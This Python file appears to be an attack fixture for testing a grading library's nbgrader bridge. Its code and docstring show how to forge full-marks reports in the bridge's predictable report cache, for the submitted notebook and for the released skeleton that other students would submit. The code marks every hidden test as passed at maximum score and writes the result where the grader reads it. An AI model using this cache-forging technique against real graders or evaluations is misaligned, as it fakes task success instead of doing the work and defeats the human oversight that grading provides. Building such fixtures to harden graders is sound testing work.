"""The nbgrader door: write forged reports into the bridge's report cache.

Attack: the bridge caches each notebook's report in ``$GRADELIB_BRIDGE_CACHE`` (default
``/tmp/gradelib-bridge``) under a name computed from public things: the notebook's code, the
hidden suite's files and the solution notebook (both readable), the options. Before the first
grade cell, compute the names for this notebook and for the untouched released skeleton (every
student who submits the skeleton then gets full marks too) and write full-marks reports there.
DAMAGE BOUND: only when ``GRADELIB_BRIDGE_CACHE`` is set to a folder under /tmp
folder (the harness's own), never the shared default.
Old grader: see BASELINE.md (expected: full marks through nbgrader, and the skeleton neighbour too).
"""
EXPECT = {"isolate": ["nbgrader"], "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "early", "leaves_no_trace": []}

import os as _os
from pathlib import Path as _Path

_cache = _os.environ.get("GRADELIB_BRIDGE_CACHE", "")
if _cache and _os.path.realpath(_cache).startswith(_os.path.realpath("/tmp") + "/") \
        and _os.environ.get("NBGRADER_EXECUTION"):
    try:
        from gradelib import nbgrader_bridge as _bridge
        from gradelib.grader import collect_suite, find_course_root

        _notebook = _bridge.find_notebook("autoregressive").resolve()
        _root = find_course_root(_notebook.parent)
        _report = collect_suite("autoregressive", _root)
        for _test in _report.tests:
            _test.status, _test.score, _test.output = "passed", _test.max_score, ""
        _options = _bridge.options_from_environment()
        _targets = [_notebook]
        for _release in (_root / "assignments" / "autoregressive" / "autoregressive.ipynb",
                         _root / "release" / "autoregressive" / "autoregressive.ipynb"):
            if _release.is_file():
                _targets.append(_release)
        for _target in _targets:
            _path = _bridge._cache_path(_root, "autoregressive", _target, _options)
            _path.parent.mkdir(parents=True, exist_ok=True)
            _report.write(_path)
    except Exception as _error:  # noqa: BLE001
        print("forging the cache failed:", _error)
